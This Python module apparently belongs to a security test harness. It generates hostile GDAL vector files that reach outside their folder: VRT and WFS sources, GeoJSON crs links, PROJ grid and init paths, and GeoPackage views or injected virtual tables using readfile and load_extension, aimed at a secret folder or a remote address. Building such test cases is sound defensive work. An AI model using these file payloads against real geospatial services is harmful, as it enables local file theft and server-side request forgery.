"""Vector files that lead elsewhere."""

from __future__ import annotations

import json
import shutil
import sqlite3
from contextlib import closing
from pathlib import Path

import numpy as np

from . import targets
from .place import ADDRESS, Hostile, Place, area, fields, reference

_ENDINGS = (".gpkg", ".shp", ".geojson", ".json", ".vrt", ".kml", ".gml", ".xml", ".fgb", ".sqlite")


def description(place: Place, folder: Path, rng: np.random.Generator) -> Hostile:
    """Text that one of GDAL's drivers takes for the description of features elsewhere, under any name."""
    secret, remote = place.secret / "parcels.gpkg", f"/vsicurl/{ADDRESS}/x.gpkg"
    aim = str(rng.choice([str(secret), remote]))
    texts = (
        f'<OGRVRTDataSource><OGRVRTLayer name="parcels"><SrcDataSource>{aim}</SrcDataSource></OGRVRTLayer>'
        "</OGRVRTDataSource>",
        f"<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>{secret}</SrcDataSource><SrcSQL>SELECT 1</SrcSQL>"
        "</OGRVRTLayer></OGRVRTDataSource>",
        f"<OGRWFSDataSource><URL>{ADDRESS}/wfs</URL></OGRWFSDataSource>",
        f'<?xml version="1.0"?><wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs" '
        f'xmlns:gml="http://www.opengis.net/gml" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="http://x {ADDRESS}/x.xsd http://y {place.secret}/plain.txt"><gml:featureMember/>'
        "</wfs:FeatureCollection>",
        f'<kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink><Link><href>{ADDRESS}/x.kml</href></Link>'
        f"</NetworkLink><Placemark><styleUrl>{ADDRESS}/s.kml#a</styleUrl></Placemark></Document></kml>",
        f'{{"type":"gdal_streamed_alg","command_line":"gdal vector pipeline read {secret} ! write x"}}',
        '!table\n!version 300\nDefinition Table\n  Type NATIVE Charset "Neutral"\n  Fields 1\n    Table Char (254);\n'
        'begin_metadata\n"\\IsSeamless" = "TRUE"\nend_metadata\n',
        f"GPSBABEL:garmin:{secret}",
        f"<GDAL_WMS_VECTOR>{aim}</GDAL_WMS_VECTOR>",
    )
    number = int(rng.integers(len(texts)))
    path = folder / f"parcels{rng.choice([*_ENDINGS, '.tab'])}"
    path.write_text(texts[number])
    return _handed(f"ogr-{number}-{path.suffix}", path, place, rng)


def geojson(place: Place, folder: Path, rng: np.random.Generator) -> Hostile:
    """Parcels whose coordinate system is an address or a file."""
    name = str(rng.choice([f"{ADDRESS}/crs", str(place.secret / "plain.txt"), f"file://{place.secret}/plain.txt",
                           f"+proj=utm +zone=31 +nadgrids={place.secret}/grid.gsb +type=crs",
                           f"+init={place.secret}/plain.txt:1"]))  # fmt: skip
    forms = (
        {"type": "link", "properties": {"href": name, "type": str(rng.choice(["proj4", "ogcwkt", "esriwkt"]))}},
        {"type": "url", "properties": {"url": name}},
        {"type": "name", "properties": {"name": name}},
        {"type": "OGC", "properties": {"urn": name}},
    )
    data = json.loads(fields().to_json())
    data["crs"] = forms[int(rng.integers(len(forms)))]
    path = folder / f"parcels{rng.choice(['.geojson', '.json'])}"
    path.write_text(json.dumps(data))
    return _handed(f"geojson-{data['crs']['type']}-{name[:50]}", path, place, rng)


def geopackage(place: Place, folder: Path, rng: np.random.Generator) -> Hostile:
    """A database whose views, triggers and virtual tables reach outside it."""
    path = folder / "parcels.gpkg"
    fields().to_file(path, driver="GPKG", layer="parcels")
    secret = place.secret / "parcels.gpkg"
    statements = (
        "CREATE VIEW v AS SELECT fid, geom, load_extension('x') AS crop FROM parcels",
        f"CREATE VIEW v AS SELECT fid, geom, readfile('{place.secret / 'plain.txt'}') AS crop FROM parcels",
        f"CREATE VIEW v AS SELECT fid, geom, gdal_get_pixel_value('{place.secret}/S2_20240425_B04.tif',1,'pixel',0,0) "
        "AS crop FROM parcels",
        f"CREATE TRIGGER t AFTER INSERT ON parcels BEGIN SELECT ogr_layer_Extent('{secret}'); END",
        f'UPDATE gpkg_spatial_ref_sys SET definition = \'PROJCS["x","+nadgrids={place.secret}/grid.gsb"]\'',
        f"UPDATE gpkg_spatial_ref_sys SET definition = '+init={place.secret}/plain.txt:1'",
        "PRAGMA writable_schema=ON; INSERT INTO sqlite_master VALUES ('table','v','v',0,"
        f"'CREATE VIRTUAL TABLE v USING VirtualOGR(''{secret}'')')",
        "PRAGMA writable_schema=ON; INSERT INTO sqlite_master VALUES ('table','v','v',0,"
        f"'CREATE VIRTUAL TABLE v USING VirtualText(''{place.secret}/plain.txt'', UTF-8)')",
    )
    number = int(rng.integers(len(statements)))
    with closing(sqlite3.connect(path)) as file, file:
        file.create_function("ST_IsEmpty", 1, lambda _: 0)
        file.executescript(statements[number])
        if "VIEW" in statements[number]:
            file.execute("INSERT INTO gpkg_contents (table_name, data_type, srs_id) VALUES ('v', 'features', 32631)")
            file.execute("INSERT INTO gpkg_geometry_columns VALUES ('v', 'geom', 'POLYGON', 32631, 0, 0)")
            file.execute("DELETE FROM gpkg_contents WHERE table_name = 'parcels'")
    return _handed(f"gpkg-{number}", path, place, rng)


def shapefile(place: Place, folder: Path, rng: np.random.Generator) -> Hostile:
    """Parcels whose .prj shifts by a grid of the user's disk, or is an address."""
    path = folder / "parcels.shp"
    fields().to_file(path)
    grid = str(rng.choice([str(place.secret / "grid.gsb"), f"/vsicurl/{ADDRESS}/x.gsb"]))
    texts = (
        'PROJCS["x",GEOGCS["x",DATUM["x",SPHEROID["x",6378137,298.25]],PRIMEM["Greenwich",0],UNIT["degree",0.0174],'
        f'EXTENSION["PROJ4","+proj=longlat +nadgrids={grid} +no_defs"]],PROJECTION["Transverse_Mercator"],'
        f'UNIT["metre",1],EXTENSION["PROJ4","+proj=utm +zone=31 +nadgrids={grid} +units=m"]]',
        f"{ADDRESS}/crs.prj",
        str(place.secret / "plain.txt"),
        f"+init={place.secret}/plain.txt:1",
        f"PROJECTION +init={place.secret}/plain.txt:1",
    )
    (folder / "parcels.prj").write_text(texts[int(rng.integers(len(texts)))])
    return _handed("shapefile-prj", path, place, rng)


def named_address(place: Place, folder: Path, rng: np.random.Generator) -> Hostile:
    """A file that holds nothing but a name that GDAL opens."""
    ways = [*targets.addresses(), *targets.files(place, folder)]
    text = str(rng.choice(ways))
    path = folder / f"parcels{rng.choice(_ENDINGS)}"
    path.write_text(text)
    return _handed(f"name-{text[:60]}", path, place, rng)


def renamed(place: Place, folder: Path, rng: np.random.Generator) -> Hostile:
    """A MapInfo table that views another, or a copy of a GeoPackage under another name."""
    path = folder / "parcels.tab"
    if rng.integers(2):
        shutil.copyfile(place.secret / "parcels.gpkg", path)
    else:
        path.write_text(
            f'!table\n!version 100\nopen table "{place.secret}/a" Hide\nopen table "{place.secret}/b" Hide\n'
            "Create View x As\nSelect A\nFrom a, b\nWhere a.A = b.B\n"
        )
    return _handed("tab", path, place, rng)


def _handed(name: str, path: Path, place: Place, rng: np.random.Generator) -> Hostile:
    return reference(name, path, place) if rng.integers(3) else area(name, path, place)


VECTORS = (description, description, geojson, geojson, geopackage, shapefile, named_address, renamed)
